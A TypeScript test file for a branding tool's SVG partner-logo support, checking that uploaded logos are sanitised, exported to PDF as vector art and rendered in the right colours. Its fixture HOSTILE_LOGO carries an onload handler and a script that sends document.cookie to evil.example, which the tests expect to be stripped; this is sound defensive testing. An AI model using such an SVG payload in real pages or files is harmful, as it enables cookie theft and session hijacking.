import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LogoView } from '../../core/contracts/api.ts';
import { loadProfile, type PartnerProfile } from '../../core/model/index.ts';
import { imageFixture } from '../../test/core-support/files.ts';
import { callFails, callOk } from '../../test/support/api.ts';
import { seededCatalogue } from '../../test/support/catalogue.ts';
import { dumpDatabase } from '../../test/support/db.ts';
import { countPixels, qpdfCheck, renderRegion } from '../../test/support/pdf.ts';
import { tempDir } from '../../test/support/temp.ts';
import { ApiService } from '../api/service.ts';
import { checkDocument, exportDocument } from './export.ts';

/** A red-and-blue logo that also carries a script, a handler and an external image. */
const HOSTILE_LOGO = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 300 100" onload="alert(1)">
  <script>fetch('https://evil.example/?' + document.cookie)</script>
  <image xlink:href="https://evil.example/tracker.png" width="1" height="1"/>
  <rect width="200" height="100" fill="#e4002b"/>
  <path d="M200 0 h100 v100 h-100 z" fill="rgb(0, 82, 155)"/>
</svg>`;

let catalogue: ReturnType<typeof seededCatalogue>['catalogue'];
let service: ApiService;

beforeAll(() => {
  ({ catalogue } = seededCatalogue());
  service = new ApiService({ catalogue, dataDir: 'x', transport: 'web', version: 'test', exportDir: tempDir('lockup-svg-exports-') });
});
afterAll(() => catalogue.close());

const b64 = (s: string | Uint8Array) => Buffer.from(s).toString('base64');

describe('SVG partner logos (issue #6)', () => {
  let view: LogoView;
  let profile: PartnerProfile;

  it('logo:intake takes in a hostile SVG sanitised, as vector, and says what it removed', async () => {
    view = await callOk<LogoView>(service, 'logo:intake', { name: 'acme.svg', data: b64(HOSTILE_LOGO) });
    expect(view).toMatchObject({ format: 'svg', vector: true, width: 225, height: 75 });
    expect(view.svg?.removed).toEqual(['onload attribute', 'script element', 'image element']);
    expect(view.effectivePpi).toBeUndefined();
    expect(await callOk<LogoView>(service, 'logo:describe', { ref: view.ref })).toEqual(view);
    profile = loadProfile({ id: 'acme', company: 'Acme Systems', tier: 'gold', logo: { light: view.ref, dark: view.ref } });
  });

  it('an SVG with entity declarations is refused at intake and nothing is stored', async () => {
    const before = dumpDatabase(catalogue.db);
    const err = await callFails(service, 'logo:intake', { name: 'entity.svg', data: b64(imageFixture('entity.svg')) });
    expect(err).toMatchObject({ code: 'svg-refused' });
    expect(err.message).toMatch(/"entity\.svg" was refused: it has a DOCTYPE declaration/);
    expect(dumpDatabase(catalogue.db)).toEqual(before);
  });

  it('exported: qpdf clean, no raster image for the logo, its colours where the plan places it', async () => {
    const template = catalogue.listTemplates().find((t) => catalogue.getTemplate(`${t.id}@${t.version}`).pages[0]!.zones.some((z) => z.kind === 'partner-logo'))!;
    const id = `${template.id}@${template.version}`;
    // SVG is the vendor's to allow: with it switched off the logo is refused, switched on (as the demo brand ships) it is drawn.
    const brand = catalogue.getBrand(template.brand);
    expect(brand.rules.logoFormats.allowed).toContain('svg');
    catalogue.saveBrand({ ...brand, rules: { ...brand.rules, logoFormats: { allowed: brand.rules.logoFormats.allowed.filter((f) => f !== 'svg') } } });
    const refused = await checkDocument(catalogue, service.engine, { template: id, profile, fields: {}, output: 'screen' });
    expect(refused.findings.filter((f) => f.severity === 'error').map((f) => f.code)).toEqual(['logo-format-not-allowed']);
    catalogue.saveBrand(brand);
    const checked = await checkDocument(catalogue, service.engine, { template: id, profile, fields: {}, output: 'screen' });
    const item = checked.composition.plan.pages[0]!.items.find((i) => i.type === 'image' && i.image.key === view.ref);
    expect(checked.findings.filter((f) => f.severity === 'error')).toEqual([]);
    expect(item?.type).toBe('image');
    if (item?.type !== 'image') return;
    expect(item.image.kind).toBe('svg');

    const out = path.join(tempDir('lockup-svg-'), 'svg-logo.pdf');
    const r = await exportDocument(catalogue, service.engine, { template: id, profile, fields: {}, output: 'screen', out, tool: 'cli', reproducible: true });
    expect(r.findings.filter((f) => f.severity === 'error')).toEqual([]);
    const check = qpdfCheck(out);
    expect(check.status, check.stdout + check.stderr).toBe(0);
    expect(check.stderr).toBe('');

    // No image XObject came from the logo.
    const withPng = path.join(tempDir('lockup-svg-'), 'png-logo.pdf');
    const png = catalogue.putAsset(imageFixture('logo-rgba.png'), 'logo-rgba.png');
    await service.engine.resources.imageByRef(png);
    await exportDocument(catalogue, service.engine, { template: id, profile: { ...profile, logo: { light: png, dark: png } }, fields: {}, output: 'screen', out: withPng, tool: 'cli', reproducible: true });
    const images = (file: string) => {
      const list = spawnSync('pdfimages', ['-list', file], { encoding: 'utf8' });
      expect(list.status).toBe(0);
      return list.stdout.split('\n').slice(2).filter((l) => l.trim() !== '').length;
    };
    // The PNG adds its image and soft mask; the SVG adds none (the template's own pictures are in both).
    expect(images(withPng) - images(out)).toBe(2);
    // The logo's form has the sanitised drawing only: nothing of the script or the external image reached the file.
    const raw = fs.readFileSync(out, 'latin1');
    expect(raw).not.toContain('evil.example');

    // Render where the plan put the logo: left two thirds red, right third blue.
    const bleed = checked.composition.plan.bleed;
    const place = { x: item.place.x + bleed, y: item.place.y + bleed, w: item.place.w, h: item.place.h };
    const red = renderRegion(out, { x: place.x + place.w * 0.1, y: place.y + place.h * 0.2, w: place.w * 0.4, h: place.h * 0.6 }, { dpi: 144 });
    const blue = renderRegion(out, { x: place.x + place.w * 0.72, y: place.y + place.h * 0.2, w: place.w * 0.2, h: place.h * 0.6 }, { dpi: 144 });
    const isRed = (r: number, g: number, b: number) => r > 200 && g < 40 && b > 20 && b < 70;
    const isBlue = (r: number, g: number, b: number) => r < 30 && g > 60 && g < 110 && b > 130 && b < 180;
    expect(countPixels(red, isRed) / (red.width * red.height)).toBeGreaterThan(0.95);
    expect(countPixels(blue, isBlue) / (blue.width * blue.height)).toBeGreaterThan(0.95);
  });

  it('a gradient logo is exported as a shading: qpdf clean, no image, red on the left fading to blue on the right', async () => {
    const gradient = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 100"><linearGradient id="g"><stop offset="0" stop-color="#ff0000"/><stop offset="1" stop-color="#0000ff"/></linearGradient><rect width="300" height="100" fill="url(#g)"/></svg>`;
    const logo = await callOk<LogoView>(service, 'logo:intake', { name: 'gradient.svg', data: b64(gradient) });
    expect(logo.svg).toEqual({ removed: [], warnings: [] });
    const template = catalogue.listTemplates().find((t) => catalogue.getTemplate(`${t.id}@${t.version}`).pages[0]!.zones.some((z) => z.kind === 'partner-logo'))!;
    const id = `${template.id}@${template.version}`;
    const p = { ...profile, logo: { light: logo.ref, dark: logo.ref } };
    const checked = await checkDocument(catalogue, service.engine, { template: id, profile: p, fields: {}, output: 'screen' });
    const item = checked.composition.plan.pages[0]!.items.find((i) => i.type === 'image' && i.image.key === logo.ref);
    if (item?.type !== 'image') throw new Error('no logo item');
    const out = path.join(tempDir('lockup-svg-'), 'gradient.pdf');
    await exportDocument(catalogue, service.engine, { template: id, profile: p, fields: {}, output: 'screen', out, tool: 'cli', reproducible: true });
    const check = qpdfCheck(out);
    expect(check.status, check.stdout + check.stderr).toBe(0);
    expect(check.stderr).toBe('');
    const bleed = checked.composition.plan.bleed;
    const at = (fx: number) => renderRegion(out, { x: item.place.x + bleed + item.place.w * fx, y: item.place.y + bleed + item.place.h * 0.4, w: 2, h: 2 }, { dpi: 72 });
    const [r0, , b0] = at(0.05).data;
    const [r1, , b1] = at(0.93).data;
    expect(r0!).toBeGreaterThan(220);
    expect(b0!).toBeLessThan(40);
    expect(b1!).toBeGreaterThan(220);
    expect(r1!).toBeLessThan(40);
  });

  it('logo:describe gives a raster logo its effective resolution at the largest slot', async () => {
    const png = await callOk<LogoView>(service, 'logo:intake', { name: 'logo-rgba.png', data: b64(imageFixture('logo-rgba.png')) });
    await callOk(service, 'profile:save', { company: 'Acme Systems', tier: 'gold', logo: { light: png.ref } });
    const described = await callOk<LogoView>(service, 'logo:describe', { ref: png.ref });
    expect(described.vector).toBe(false);
    expect(described.svg).toBeUndefined();
    expect(described.effectivePpi?.value).toBeGreaterThan(0);
    expect(described.effectivePpi?.slot).toMatch(/ — /);
  });
});
